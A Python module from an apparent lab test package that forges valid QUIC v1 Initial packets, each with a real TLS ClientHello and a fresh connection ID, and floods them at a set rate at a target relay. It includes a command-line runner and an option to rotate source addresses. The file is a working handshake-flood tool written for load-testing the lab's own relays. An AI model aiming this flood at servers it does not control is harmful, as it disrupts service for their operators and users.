"""A handshake flood: forged QUIC v1 Initials, each with a new connection ID, at a set rate.

For the lab's e2e tests and benchmarks only (aim it at relays you run). Each datagram is what
an attacker without credentials can send, and costs a server what a real client's first
datagram costs: a 1200-byte Initial, correctly protected (RFC 9001 §5: keys derived from its
own random destination connection ID, AES-128-GCM, header protection), carrying a real TLS
ClientHello (taken once from an aioquic client). A server that admits it decrypts it, runs
a TLS handshake (key exchange, certificate signature) and keeps the connection until it
gives up on it.

Sealing one costs about 20 µs, so a flood's datagrams are made before it starts
(:func:`forge_initials`) and then only sent (:func:`send_flood`): the sender's CPU goes to
``sendto``, not to cryptography, and the rate holds on a busy machine.

``python -m zgate_lab.flood --target HOST:PORT --rate 20000 --duration 5`` runs one.
"""

from __future__ import annotations

import argparse
import hashlib
import hmac
import os
import socket
import sys
import time
from collections.abc import Sequence
from dataclasses import dataclass
from typing import Final

from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes
from cryptography.hazmat.primitives.ciphers.aead import AESGCM

__all__ = [
    "ClientHello",
    "FloodResult",
    "client_hello",
    "forge_initials",
    "main",
    "open_client_initial",
    "send_flood",
]

#: RFC 9001 §5.2: the salt of QUIC version 1's Initial secrets.
_INITIAL_SALT_V1: Final = bytes.fromhex("38762cf7f55934b34d179ae6a4c80cadccbb7f0a")
_QUIC_V1: Final = b"\x00\x00\x00\x01"
_DATAGRAM: Final = 1200
_PN_LENGTH: Final = 4
_TAG: Final = 16


def _expand_label(secret: bytes, label: bytes, length: int) -> bytes:
    """TLS 1.3 HKDF-Expand-Label with an empty context (RFC 8446 §7.1), one SHA-256 block."""
    full = b"tls13 " + label
    info = length.to_bytes(2, "big") + bytes((len(full),)) + full + b"\x00"
    return hmac.digest(secret, info + b"\x01", hashlib.sha256)[:length]


def _client_keys(dcid: bytes) -> tuple[bytes, bytes, bytes]:
    """The client's Initial key, IV and header-protection key for ``dcid`` (RFC 9001 §5.2)."""
    initial = hmac.digest(_INITIAL_SALT_V1, dcid, hashlib.sha256)  # HKDF-Extract
    secret = _expand_label(initial, b"client in", 32)
    return (
        _expand_label(secret, b"quic key", 16),
        _expand_label(secret, b"quic iv", 12),
        _expand_label(secret, b"quic hp", 16),
    )


def _mask(hp: bytes, sample: bytes) -> bytes:
    encryptor = Cipher(algorithms.AES(hp), modes.ECB()).encryptor()
    return encryptor.update(sample)


def _seal(payload: bytes, dcid: bytes, scid: bytes, packet_number: int) -> bytes:
    """One protected Initial padded to fill a 1200-byte datagram."""
    head = bytes((0xC0 | (_PN_LENGTH - 1),)) + _QUIC_V1
    head += bytes((len(dcid),)) + dcid + bytes((len(scid),)) + scid + b"\x00"  # no token
    room = _DATAGRAM - len(head) - 2 - _PN_LENGTH - _TAG
    if len(payload) > room:
        raise ValueError(f"the Initial payload ({len(payload)} bytes) does not fit")
    plain = payload + bytes(room - len(payload))  # PADDING frames
    length = _PN_LENGTH + len(plain) + _TAG
    pn = packet_number.to_bytes(_PN_LENGTH, "big")
    header = head + (0x4000 | length).to_bytes(2, "big") + pn
    key, iv, hp = _client_keys(dcid)
    nonce = (int.from_bytes(iv, "big") ^ packet_number).to_bytes(12, "big")
    sealed = AESGCM(key).encrypt(nonce, plain, header)
    mask = _mask(hp, sealed[4 - _PN_LENGTH : 4 - _PN_LENGTH + 16])
    pn_at = len(header) - _PN_LENGTH
    protected = bytearray(header)
    protected[0] ^= mask[0] & 0x0F
    for i in range(_PN_LENGTH):
        protected[pn_at + i] ^= mask[1 + i]
    return bytes(protected) + sealed


def open_client_initial(datagram: bytes) -> bytes:
    """The decrypted payload (frames) of a client's first Initial: the inverse of sealing,
    to take a real ClientHello from a real client, and to check forged ones."""
    dcid_len = datagram[5]
    dcid = datagram[6 : 6 + dcid_len]
    pos = 6 + dcid_len
    pos += 1 + datagram[pos]  # source CID
    token_length, pos = _varint(datagram, pos)
    pos += token_length
    length, pn_at = _varint(datagram, pos)
    key, iv, hp = _client_keys(dcid)
    mask = _mask(hp, datagram[pn_at + 4 : pn_at + 20])
    first = datagram[0] ^ (mask[0] & 0x0F)
    pn_length = (first & 0x03) + 1
    pn_bytes = bytes(
        b ^ m for b, m in zip(datagram[pn_at : pn_at + pn_length], mask[1:], strict=False)
    )
    header = bytes((first,)) + datagram[1:pn_at] + pn_bytes
    nonce = (int.from_bytes(iv, "big") ^ int.from_bytes(pn_bytes, "big")).to_bytes(12, "big")
    body = datagram[pn_at + pn_length : pn_at + length]
    return AESGCM(key).decrypt(nonce, body, header)


def _varint(data: bytes, pos: int) -> tuple[int, int]:
    size = 1 << (data[pos] >> 6)
    value = int.from_bytes(data[pos : pos + size], "big") & ((1 << (8 * size - 2)) - 1)
    return value, pos + size


@dataclass(frozen=True, slots=True)
class ClientHello:
    """A real client's first Initial, decrypted: its frames (a CRYPTO frame with the
    ClientHello, padding stripped) and its source connection ID, which the ClientHello's
    transport parameters repeat (initial_source_connection_id, RFC 9000 §7.3): a server
    closes at once a connection whose packets carry another one."""

    frames: bytes
    source_cid: bytes


def client_hello(server_name: str = "relay.zgate.test") -> ClientHello:
    """A real ClientHello from an aioquic client (which fits it in one packet)."""
    from aioquic.quic.configuration import QuicConfiguration
    from aioquic.quic.connection import QuicConnection

    client = QuicConnection(
        configuration=QuicConfiguration(
            is_client=True, alpn_protocols=["h3"], server_name=server_name
        )
    )
    client.connect(("192.0.2.1", 443), now=0.0)
    first, _ = client.datagrams_to_send(now=0.0)[0]
    scid = first[7 + first[5] : 7 + first[5] + first[6 + first[5]]]
    return ClientHello(open_client_initial(first).rstrip(b"\x00"), scid)


def forge_initials(count: int, hello: ClientHello | None = None) -> list[bytes]:
    """``count`` forged Initials, each to a new random destination connection ID (so each
    is a new connection to the server), carrying ``hello`` (default: :func:`client_hello`)."""
    hello = hello if hello is not None else client_hello()
    random = os.urandom
    return [_seal(hello.frames, random(8), hello.source_cid, 0) for _ in range(count)]


@dataclass(frozen=True, slots=True)
class FloodResult:
    """What a flood did: datagrams sent (and refused by the local socket), over how long."""

    sent: int
    send_errors: int
    seconds: float

    @property
    def rate(self) -> float:
        """Datagrams sent per second."""
        return self.sent / self.seconds if self.seconds > 0 else 0.0


def send_flood(
    target: tuple[str, int],
    datagrams: Sequence[bytes],
    rate: float,
    *,
    sources: Sequence[str] = (),
    batch_interval: float = 0.002,
) -> FloodResult:
    """Send every datagram once, to ``target``, at ``rate`` per second (in small bursts every
    ``batch_interval``), from one UDP socket, or in turn from one socket per local address
    of ``sources`` (many senders, as far as the target can tell). Blocking."""
    family = socket.AF_INET6 if ":" in target[0] else socket.AF_INET
    socks = [socket.socket(family, socket.SOCK_DGRAM) for _ in sources or [""]]
    errors = 0
    sent = 0
    try:
        for sock, source in zip(socks, sources, strict=False):
            sock.bind((source, 0))
        for sock in socks:
            sock.connect(target)
        sends = [sock.send for sock in socks]
        fan = len(sends)
        start = time.monotonic()
        total = len(datagrams)
        while sent < total:
            due = min(total, int((time.monotonic() - start) * rate) + 1)
            while sent < due:
                try:
                    sends[sent % fan](datagrams[sent])
                except OSError:  # ECONNREFUSED from an ICMP, ENOBUFS: count, go on
                    errors += 1
                sent += 1
            if sent < total:
                time.sleep(batch_interval)
        return FloodResult(sent, errors, time.monotonic() - start)
    finally:
        for sock in socks:
            sock.close()


def main(argv: Sequence[str] | None = None) -> int:
    """``python -m zgate_lab.flood``: forge, then send, then print one JSON line."""
    import json

    p = argparse.ArgumentParser(
        prog="python -m zgate_lab.flood",
        description="Send a flood of forged QUIC v1 Initials (a new connection ID each, a real "
        "ClientHello inside) to a relay you run, at a set rate for a set time.",
    )
    p.add_argument("--target", required=True, metavar="HOST:PORT", help="the relay's UDP address")
    p.add_argument("--rate", type=float, default=5000.0, help="datagrams per second [5000]")
    p.add_argument("--duration", type=float, default=3.0, help="seconds [3]")
    p.add_argument(
        "--source",
        action="append",
        default=[],
        metavar="HOST",
        help="local address to send from (repeatable: the datagrams take turns)",
    )
    p.add_argument(
        "--go-on-stdin",
        action="store_true",
        help="after forging (which takes ~30 us per datagram of CPU), wait for a line on "
        "stdin before sending: a test can then measure the flood alone",
    )
    args = p.parse_args(argv)
    host, _, port = args.target.rpartition(":")
    if not host or not port.isdigit() or args.rate <= 0 or not 0 < args.duration <= 60:
        print(
            "zgate_lab.flood: need --target HOST:PORT, --rate > 0, 0 < --duration <= 60",
            file=sys.stderr,
        )
        return 2
    datagrams = forge_initials(int(args.rate * args.duration))
    print(json.dumps({"forged": len(datagrams)}), flush=True)
    if args.go_on_stdin:
        sys.stdin.readline()
    result = send_flood(
        (host.strip("[]"), int(port)),
        datagrams,
        args.rate,
        sources=args.source,
    )
    print(
        json.dumps(
            {
                "sent": result.sent,
                "send_errors": result.send_errors,
                "seconds": round(result.seconds, 3),
                "rate": round(result.rate),
            }
        ),
        flush=True,
    )
    return 0


if __name__ == "__main__":
    sys.exit(main())
